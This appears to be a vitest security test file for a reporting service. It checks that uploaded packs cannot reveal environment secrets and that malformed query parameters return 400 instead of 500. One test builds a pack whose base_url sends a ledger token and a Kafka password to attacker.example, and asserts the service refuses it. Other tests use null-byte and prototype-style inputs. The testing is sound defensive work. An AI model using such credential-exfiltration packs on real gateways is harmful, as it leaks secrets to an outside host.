// Reporting from outside, as an attacker with an admin or finance token would try it: a pack that
// names reporting's own environment, and queries that used to reach the database malformed (500).
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { kafkaBrokers } from '../setup/infra.js';
import { startReportingStack, type ReportingStack } from './reporting.fixture.js';

const PROVIDER_KEY = `sk-reporting-probe-${randomUUID()}`;
const SEED = readFileSync(new URL('../../packs/multi-provider-core.yaml', import.meta.url), 'utf8');
const run = randomUUID().slice(0, 8);

let stack: ReportingStack;

beforeAll(async () => {
  stack = await startReportingStack({ reportingEnv: { OPENAI_API_KEY: PROVIDER_KEY } });
}, 120_000);

afterAll(async () => {
  await stack?.stop();
});

/** Every value of reporting's environment a probe could try to read. */
function secrets(): string[] {
  return [
    kafkaBrokers(),
    stack.databaseUrl,
    stack.tokens,
    stack.adminToken,
    stack.financeToken,
    PROVIDER_KEY,
  ];
}

function postPack(text: string): Promise<Response> {
  return fetch(`${stack.reportingUrl}/v1/packs`, {
    method: 'POST',
    headers: { authorization: `Bearer ${stack.adminToken}`, 'content-type': 'application/yaml' },
    body: text,
  });
}

/** The seed pack under a name of this run, the backup group pointed at `target`. */
function probePack(target: string, suffix: string): string {
  return SEED.replace('name: multi-provider-core', `name: hostile-${run}-${suffix}`).replace(
    '      targets:\n        - anthropic-last-resort',
    `      targets:\n        - "${target}"`,
  );
}

describe('applying a pack never reveals reporting’s environment', () => {
  it.each(['KAFKA_BROKERS', 'DATABASE_URL', 'REPORTING_TOKENS', 'OPENAI_API_KEY'])(
    'answers a group target "${%s}" without its value',
    async (name) => {
      const res = await postPack(probePack(`\${${name}}`, name.toLowerCase().replace(/_/g, '-')));
      const text = await res.text();
      expect([201, 400]).toContain(res.status);
      for (const secret of secrets()) expect(text).not.toContain(secret);
      expect(text).not.toContain('localhost:9092');
    },
  );

  it('accepts a pack whose target id comes from a variable only the gateways define', async () => {
    const pack = probePack('${EDGE_ONLY_TARGET}', 'gateway-only').replace(
      '    - id: anthropic-last-resort',
      '    - id: "${EDGE_ONLY_TARGET}"',
    );
    const res = await postPack(pack);
    expect([res.status, await res.text()]).toEqual([
      201,
      expect.stringContaining(`hostile-${run}-gateway-only`),
    ]);
  });

  it("refuses a pack that would make the gateways send kt's own credentials to another host", async () => {
    // Accepted and signed, every gateway would substitute its own environment: the Kafka password as
    // the API key and the ledger token in the URL, both sent to attacker.example.
    const pack = probePack('anthropic-last-resort', 'exfiltrate')
      .replace('        env: OPENAI_API_KEY', '        env: KAFKA_SASL_PASSWORD')
      .replace(
        '      provider: openai:chat:gpt-5.4-mini\n',
        '      provider: openai:chat:gpt-5.4-mini\n      base_url: https://attacker.example/v1/${KT_LEDGER_SERVICE_TOKEN}\n',
      );
    expect(pack).toContain('KAFKA_SASL_PASSWORD');
    expect(pack).toContain('${KT_LEDGER_SERVICE_TOKEN}');
    const res = await postPack(pack);
    const text = await res.text();
    expect([res.status, JSON.parse(text)]).toMatchObject([
      400,
      {
        error: {
          code: 'invalid_pack',
          errors: [
            {
              path: 'providers.targets[0].base_url',
              message: expect.stringContaining('KT_LEDGER_SERVICE_TOKEN'),
            },
            {
              path: 'providers.targets[0].secret_key_ref.env',
              message: expect.stringContaining('KAFKA_SASL_PASSWORD'),
            },
          ],
        },
      },
    ]);
    for (const secret of secrets()) expect(text).not.toContain(secret);
  });

  it('still refuses what no environment can fix, naming it by path', async () => {
    const res = await postPack(probePack('no-such-target', 'unknown'));
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({
      error: { code: 'invalid_pack', errors: [{ path: 'providers.model_groups[1].targets[0]' }] },
    });
  });

  it('never logs a value of its environment either', () => {
    const logs = stack.reportingLogs();
    for (const secret of [PROVIDER_KEY, stack.adminToken, stack.financeToken])
      expect(logs).not.toContain(secret);
  });
});

describe('client input never answers 500', () => {
  it.each([
    ['/v1/events?since=99999999d', 'since'],
    ['/v1/events?request_id=%00', 'request_id'],
    ['/v1/events?since=0000-01-01', 'since'],
    ['/v1/events?until=9999-12-31T23:59:59-23:59', 'until'],
    ['/v1/events?limit=1e400', 'limit'],
    ['/v1/events?provider[a]=b', 'provider[a]'],
    ['/v1/events?constructor=x', 'constructor'],
    ['/v1/events?team=a%00b', 'team'],
    ['/v1/events/export?format=csv&model=%00', 'model'],
    ['/v1/spend?since=999999999w', 'since'],
    ['/v1/spend?by=team&by=model', 'by'],
    ['/v1/spend/provider-mix?until=99999999d', 'until'],
  ])('GET %s → 400 naming %s', async (path, param) => {
    const res = await stack.get(path);
    expect([res.status, await res.json()]).toMatchObject([
      400,
      { error: { type: 'invalid_request_error', code: 'invalid_parameter', param } },
    ]);
  });

  it.each([
    [{ since: '99999999d' }, 'since'],
    [{ since: '24h', until: '0000-01-01' }, 'until'],
  ])('POST /v1/audits %j → 400 naming %s', async (body, param) => {
    const res = await fetch(`${stack.reportingUrl}/v1/audits`, {
      method: 'POST',
      headers: { authorization: `Bearer ${stack.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    expect([res.status, await res.json()]).toMatchObject([
      400,
      { error: { code: 'invalid_parameter', param } },
    ]);
  });
});
